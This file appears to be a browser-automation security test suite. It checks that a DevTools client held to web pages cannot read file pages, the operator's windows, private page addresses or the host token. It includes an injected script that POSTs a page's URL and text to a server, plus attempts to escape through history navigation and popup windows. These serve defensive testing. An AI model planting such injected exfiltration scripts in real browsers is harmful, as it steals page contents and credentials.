/** Ways from the pages of the web to those that are none, by whoever may only run tasks and has DevTools; with a real browser. */
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { browserPath } from '../faults/support.ts';
import { type DevtoolsClient, type DevtoolsSubject, openDevtools } from '../support/devtools.ts';

describe.skipIf(browserPath === null)('a client that is held to pages of the web', () => {
  let subject: DevtoolsSubject;
  let web = '';
  let file = '';
  let operator: DevtoolsClient;
  let client: DevtoolsClient;

  beforeAll(async () => {
    subject = await openDevtools();
    ({ web, operator, client } = subject);
    file = pathToFileURL(path.join(subject.host.dir, 'host.json')).href;
  }, 60_000);
  beforeEach(() => {
    subject.told.length = 0;
  });
  afterAll(() => subject?.[Symbol.asyncDispose]());

  const TELL = () => `fetch('${web}', { method: 'POST', body: location.href + document.documentElement.innerText })`;

  // Would catch: the host's token, read by a script that was left for new documents when its client goes back to where the operator had been.
  test('a script for new documents runs in those of the web, and in no other', async () => {
    const { target, session } = await operator.open(file);
    await operator.goto(`${web}after`, session);
    const mine = await client.attach(target);
    const source = `addEventListener('DOMContentLoaded', () => ${TELL()}); window.mine = 1`;
    await client.send('Page.addScriptToEvaluateOnNewDocument', { source }, mine);
    for (const url of [`${web}again`, 'data:text/html,<p>here']) {
      await client.goto(url, mine);
      expect(await client.read('window.mine', mine)).toBe(1);
    }
    const { entries } = await client.send('Page.getNavigationHistory', {}, mine);
    const [first] = entries as unknown as { id: number; url: string; title: string }[];
    expect(first).toMatchObject({ url: 'file://', title: '' });
    await client.send('Page.navigateToHistoryEntry', { entryId: first?.id }, mine);
    await expect.poll(() => subject.addressOf(target)).toBe(file);
    const frames = `document.body.append(document.createElement('iframe')); [mine, frames[0].mine].map(String).join()`;
    expect(await operator.read(frames.replace('[mine', '[window.mine'), session)).toBe('undefined,undefined');
    expect(subject.told.join()).not.toContain(subject.host.token);
    expect(subject.told.length).toBeGreaterThan(0);
    expect(await client.read('1', mine)).toContain('not one of the web');
  });

  // Would catch: a window without an address that a page of the operator has opened, in which everything of that page can be read.
  test('what a page elsewhere has opened is elsewhere until it goes to the web itself', async () => {
    const { target, session } = await operator.open(file);
    const opened = (url: string) => operator.read(`void (window.w = open(${url}))`, session);
    const popups = async () => (await subject.pages()).filter(({ openerId }) => openerId === target);
    await opened(`'about:blank'`);
    await opened(`URL.createObjectURL(new Blob(['<p>'], { type: 'text/html' }))`);
    await expect.poll(popups).toHaveLength(2);
    const all = await Promise.all((await popups()).map(({ targetId }) => client.attach(targetId)));
    for (const one of all)
      expect(await client.read('opener.document.documentElement.innerText', one)).toContain('not one of the web');
    const [first = ''] = all;
    await client.goto(web, first);
    expect(await client.read('document.title', first)).toBe('site');
  });

  // Would catch: a page with the rights of a file, written by whoever answers the request for it.
  test('requests for files are not held up', async () => {
    const { target, session } = await operator.open(web);
    const mine = await client.attach(target);
    await client.send('Fetch.enable', {}, mine);
    await operator.goto(file, session);
    expect(client.events.filter(({ method }) => method === 'Fetch.requestPaused')).toEqual([]);
    // Those of the web still are.
    void client.send('Page.navigate', { url: web }, mine);
    await expect.poll(() => client.events.filter(({ method }) => method === 'Fetch.requestPaused')).toHaveLength(1);
  });

  // Would catch: addresses of files, names of documents and what is open elsewhere, told to whoever lists the pages.
  test('of pages elsewhere it hears that they are there', async () => {
    await operator.open(`${file}?private`);
    await client.send('Target.setDiscoverTargets', { discover: true });
    const { targetInfos } = await client.send('Target.getTargets');
    const all = JSON.stringify([targetInfos, client.events]);
    expect(all).toContain('"url":"file://"');
    expect(/host\.json|private/.test(all)).toBe(false);
  });

  // Would catch: a program among the downloads of the operator.
  test('nothing is saved, whatever it says of downloads', async () => {
    await client.send('Browser.setDownloadBehavior', { behavior: 'default', eventsEnabled: true });
    await client.send('Target.createTarget', { url: `${web}program` });
    const states = () => client.events.map(({ params }) => params.state).filter((state) => state !== undefined);
    await expect.poll(states).toContain('canceled');
    expect(states()).not.toContain('completed');
  });
});
